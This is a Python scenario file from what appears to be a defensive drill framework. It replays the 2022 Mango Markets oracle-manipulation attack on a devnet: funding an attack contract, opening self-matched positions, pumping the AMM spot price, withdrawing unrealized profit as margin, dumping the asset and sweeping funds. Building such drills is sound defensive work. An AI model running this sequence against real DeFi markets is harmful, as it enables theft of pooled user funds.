"""spot-oracle-pump — Mango Markets, Oct 2022: self-matched positions in the thin market, the AMM spot
pumped, the long's unrealized profit withdrawn as margin from the market's compartment."""

from __future__ import annotations

from collections.abc import Iterator

from breakglass.devnet.venue import USD, Venue
from breakglass.drills.scenarios.base import AttackContext, Scenario, Step

THIN = 2


class SpotOraclePump(Scenario):
    name = "spot-oracle-pump"
    incident = "Mango Markets, 2022-10-11 (~$115M)"
    summary = "pump the AMM the thin market is priced from; withdraw unrealized PnL as margin"
    switches = ("spot_oracle",)
    target_label = "THIN-PERP compartment"
    funding_usd = 4_300_000 * USD
    margin = 60_000 * USD
    size = 100_000 * USD
    pump_usd = 4_000_000 * USD
    quiet_reason = (
        "honest positions on the thin market take the open-interest headroom the self-matched 100k open "
        "needs: it reverts and the undefended loss is 0 (measured with 2 honest blocks a step)"
    )

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy attack contract",
            "SpotPumpAttack",
            v.usd.address,
            v.market(THIN).address,
            v["amm_thin"].address,
            v["thin_token"].address,
        )

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        attack = ctx.attack("SpotPumpAttack")
        yield ctx.call(
            "fund attack contract",
            ctx.venue.usd,
            "transfer",
            attack.address,
            self.funding_usd,
            wait_seconds=30,
        )
        yield ctx.call(
            "open self-matched long and short",
            attack,
            "openPair",
            self.margin,
            self.size,
            abort_on_revert=True,
            wait_seconds=60,
        )
        half = self.pump_usd // 2
        yield ctx.call("pump AMM spot (1/2)", attack, "pump", half, wait_seconds=2)
        yield ctx.call("pump AMM spot (2/2)", attack, "pump", self.pump_usd - half, wait_seconds=2)
        max_lev = ctx.venue.guard.functions.maxLeverage(THIN).call()
        yield ctx.call("withdraw unrealized profit", attack, "withdrawProfit", max_lev, wait_seconds=2)
        yield ctx.call("dump the pumped asset", attack, "dump", wait_seconds=2)
        yield ctx.call("sweep to attacker", attack, "sweep", wait_seconds=2)

    def target(self, venue: Venue) -> int:
        return int(venue.vault.functions.compartment(THIN).call())
